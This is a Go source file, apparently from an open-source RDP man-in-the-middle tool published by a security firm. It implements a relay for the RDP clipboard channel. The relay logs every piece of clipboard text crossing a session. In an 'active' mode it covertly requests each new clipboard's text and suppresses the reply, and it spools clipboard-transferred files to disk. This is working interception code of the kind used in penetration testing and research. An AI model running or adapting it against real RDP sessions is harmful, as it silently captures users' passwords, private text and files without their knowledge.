// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"fmt"
	"log/slog"
	"time"

	"github.com/x-stp/rdp-mitm-go/internal/config"
	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/metrics"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp/codec"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

// ClipboardMode selects how much the clipboard relay does on its own.
type ClipboardMode string

const (
	// ClipboardPassive logs what crosses the channel
	ClipboardPassive ClipboardMode = "passive"
	// ClipboardActive also requests the text of every new clipboard
	ClipboardActive ClipboardMode = "active"
)

// clipboardTransfer is a file copied through the clipboard, received in
// ranges identified by a stream id.
type clipboardTransfer struct {
	streamID uint32
	name     string
	expected uint64
	received uint64
	request  *rdp.FileContentsRequest
	mapping  *FileMapping
	watchdog *Timer
}

// ClipboardRelay mirrors cliprdr traffic between the two sides of a session.
type ClipboardRelay struct {
	mode    ClipboardMode
	timeout time.Duration
	loop    *Loop
	store   *FileStore
	log     *slog.Logger
	metrics *metrics.Metrics
	record  func(recording.Event)

	layers    [2]clipboardSender
	longNames [2]bool
	capsSeen  [2]bool
	formats   [2][]rdp.ClipboardFormat
	// requested is the format of the next data response sent by a side
	requested [2]uint32
	// suppress swallows the next data response of a side, answering a
	// request the relay made itself
	suppress [2]bool
	// descriptors are the files a side last offered
	descriptors [2][]rdp.FileDescriptor
	transfers   map[uint32]*clipboardTransfer
}

type clipboardSender interface {
	SendPDU(pdu *rdp.ClipboardPDU) error
}

// NewClipboardRelay creates a relay. record may be nil.
func NewClipboardRelay(cfg config.ClipboardConfig, loop *Loop, store *FileStore, log *slog.Logger, m *metrics.Metrics, record func(recording.Event)) *ClipboardRelay {
	if record == nil {
		record = func(recording.Event) {}
	}
	mode := ClipboardMode(cfg.Mode)
	if mode == "" {
		mode = ClipboardPassive
	}
	return &ClipboardRelay{
		mode:      mode,
		timeout:   cfg.TransferTimeout,
		loop:      loop,
		store:     store,
		log:       log.With(logger.Channel(rdp.ChannelClipboard)),
		metrics:   m,
		record:    record,
		transfers: make(map[uint32]*clipboardTransfer),
	}
}

// Bind sets the layer that sends toward side.
func (c *ClipboardRelay) Bind(side Side, l clipboardSender) { c.layers[side] = l }

// Observer returns the observer of PDUs received from side.
func (c *ClipboardRelay) Observer(side Side) *ClipboardObserver {
	return &ClipboardObserver{relay: c, side: side}
}

// ClipboardObserver receives the clipboard PDUs of one side.
type ClipboardObserver struct {
	relay *ClipboardRelay
	side  Side
}

func (o *ClipboardObserver) OnClipboard(pdu *rdp.ClipboardPDU) error {
	return o.relay.handle(o.side, pdu)
}

func (c *ClipboardRelay) forward(from Side, pdu *rdp.ClipboardPDU) error {
	l := c.layers[from.Peer()]
	if l == nil {
		return fmt.Errorf("clipboard channel to %s is not joined", from.Peer())
	}
	return l.SendPDU(pdu)
}

func (c *ClipboardRelay) handle(from Side, pdu *rdp.ClipboardPDU) error {
	c.log.Debug("Clipboard PDU", slog.String("from", from.String()), logger.Operation(rdp.ClipboardTypeName(pdu.MsgType)))

	switch pdu.MsgType {
	case rdp.CB_CLIP_CAPS:
		flags, ok := rdp.ClipboardGeneralFlags(pdu.Data)
		c.capsSeen[from] = true
		c.longNames[from] = ok && flags&rdp.CB_USE_LONG_FORMAT_NAMES != 0
	case rdp.CB_FORMAT_LIST:
		c.formatList(from, pdu)
	case rdp.CB_FORMAT_LIST_RESPONSE:
		if err := c.forward(from, pdu); err != nil {
			return err
		}
		return c.formatListResponse(from, pdu)
	case rdp.CB_FORMAT_DATA_REQUEST:
		if format, err := pdu.RequestedFormat(); err == nil {
			c.requested[from.Peer()] = format
		}
	case rdp.CB_FORMAT_DATA_RESPONSE:
		c.formatData(from, pdu)
		if c.suppress[from] {
			c.suppress[from] = false
			return nil
		}
	case rdp.CB_FILECONTENTS_REQUEST:
		c.fileContentsRequest(from, pdu)
	case rdp.CB_FILECONTENTS_RESPONSE:
		c.fileContentsResponse(pdu)
	}
	return c.forward(from, pdu)
}

// useLongNames reports whether format lists carry long names. Short names
// are used unless both sides announced support.
func (c *ClipboardRelay) useLongNames() bool {
	return c.capsSeen[SideClient] && c.capsSeen[SideServer] &&
		c.longNames[SideClient] && c.longNames[SideServer]
}

func (c *ClipboardRelay) formatList(from Side, pdu *rdp.ClipboardPDU) {
	formats, err := rdp.ParseFormatList(pdu.Data, c.useLongNames())
	if err != nil {
		c.log.Debug("Unparseable clipboard format list", logger.Err(err))
		formats = nil
	}
	c.formats[from] = formats
	c.descriptors[from] = nil
}

// formatListResponse fetches the text a side just put on its clipboard.
// The response comes from the side that received the list.
func (c *ClipboardRelay) formatListResponse(from Side, pdu *rdp.ClipboardPDU) error {
	owner := from.Peer()
	if c.mode != ClipboardActive || !pdu.OK() || !hasFormat(c.formats[owner], rdp.CF_UNICODETEXT) {
		return nil
	}
	l := c.layers[owner]
	if l == nil {
		return nil
	}
	c.requested[owner] = rdp.CF_UNICODETEXT
	c.suppress[owner] = true
	return l.SendPDU(rdp.NewFormatDataRequest(rdp.CF_UNICODETEXT))
}

func hasFormat(formats []rdp.ClipboardFormat, id uint32) bool {
	for _, f := range formats {
		if f.ID == id {
			return true
		}
	}
	return false
}

func (c *ClipboardRelay) formatData(from Side, pdu *rdp.ClipboardPDU) {
	format := c.requested[from]
	c.requested[from] = 0
	if !pdu.OK() {
		return
	}

	switch {
	case format == rdp.CF_UNICODETEXT:
		text, err := codec.DecodeUTF16LE(pdu.Data)
		if err != nil {
			c.log.Debug("Undecodable clipboard text", logger.Err(err))
			return
		}
		c.log.Info("Clipboard data", slog.String("from", from.String()), slog.String("text", text))
		if ev, err := recording.NewJSONEvent(recording.EventClipboardData, recording.ClipboardData{Source: from.String(), Text: text}); err == nil {
			c.record(ev)
		}
	case format != 0 && format == rdp.FormatID(c.formats[from], rdp.FileGroupDescriptorWName):
		files, err := rdp.ParseFileGroupDescriptor(pdu.Data)
		if err != nil {
			c.log.Debug("Unparseable file group descriptor", logger.Err(err))
			return
		}
		c.descriptors[from] = files
		for _, f := range files {
			c.log.Info("Clipboard file offered", slog.String("from", from.String()), logger.Path(f.Name), logger.Size(f.Size))
		}
	}
}

// fileContentsRequest starts tracking a file transfer. The data comes from
// the side the request is sent to.
func (c *ClipboardRelay) fileContentsRequest(from Side, pdu *rdp.ClipboardPDU) {
	req, err := rdp.ParseFileContentsRequest(pdu.Data)
	if err != nil {
		c.log.Debug("Unparseable file contents request", logger.Err(err))
		return
	}
	t, ok := c.transfers[req.StreamID]
	if !ok {
		t = &clipboardTransfer{streamID: req.StreamID, name: fmt.Sprintf("clipboard-%d", req.StreamID)}
		if files := c.descriptors[from.Peer()]; int(req.Index) < len(files) {
			t.name = files[req.Index].Name
			t.expected = files[req.Index].Size
		}
		c.transfers[req.StreamID] = t
	}
	t.request = req
	c.arm(t)
}

// arm restarts the watchdog of a transfer.
func (c *ClipboardRelay) arm(t *clipboardTransfer) {
	t.watchdog.Stop()
	if c.timeout <= 0 {
		return
	}
	t.watchdog = c.loop.AfterFunc(c.timeout, func() {
		c.log.Warn("Clipboard transfer timed out", logger.Path(t.name), logger.Size(t.received))
		c.abort(t, "timeout")
	})
}

func (c *ClipboardRelay) fileContentsResponse(pdu *rdp.ClipboardPDU) {
	resp, err := rdp.ParseFileContentsResponse(pdu.Data)
	if err != nil {
		c.log.Debug("Unparseable file contents response", logger.Err(err))
		return
	}
	t, ok := c.transfers[resp.StreamID]
	if !ok || t.request == nil {
		return
	}
	req := t.request
	t.request = nil

	if !pdu.OK() {
		c.abort(t, "failed")
		return
	}
	if req.Flags&rdp.FILECONTENTS_SIZE != 0 {
		if size, err := resp.Size(); err == nil {
			t.expected = size
		}
		c.arm(t)
		return
	}

	if t.mapping == nil {
		if t.mapping, err = c.store.OpenClipboard(t.name); err != nil {
			c.log.Warn("Failed to spool clipboard file", logger.Path(t.name), logger.Err(err))
			c.abort(t, "failed")
			return
		}
	}
	if err := t.mapping.Write(req.Position, resp.Data); err != nil {
		c.log.Warn("Failed to spool clipboard file", logger.Path(t.name), logger.Err(err))
		c.abort(t, "failed")
		return
	}
	t.received += uint64(len(resp.Data))

	short := uint32(len(resp.Data)) < req.Requested
	if (t.expected > 0 && t.received >= t.expected) || short {
		c.finish(t)
		return
	}
	c.arm(t)
}

func (c *ClipboardRelay) finish(t *clipboardTransfer) {
	t.watchdog.Stop()
	delete(c.transfers, t.streamID)
	if _, err := t.mapping.Finalize(); err != nil {
		c.log.Warn("Failed to save clipboard file", logger.Path(t.name), logger.Err(err))
		c.metrics.ClipboardTransfer("failed")
		return
	}
	c.metrics.ClipboardTransfer("complete")
}

func (c *ClipboardRelay) abort(t *clipboardTransfer, outcome string) {
	t.watchdog.Stop()
	delete(c.transfers, t.streamID)
	if t.mapping != nil {
		t.mapping.Abandon()
	}
	c.metrics.ClipboardTransfer(outcome)
}

// Transfers returns the number of file transfers in progress.
func (c *ClipboardRelay) Transfers() int { return len(c.transfers) }

// Close discards every unfinished transfer.
func (c *ClipboardRelay) Close() {
	for _, t := range c.transfers {
		t.watchdog.Stop()
		if t.mapping != nil {
			t.mapping.Abandon()
		}
	}
	clear(c.transfers)
}
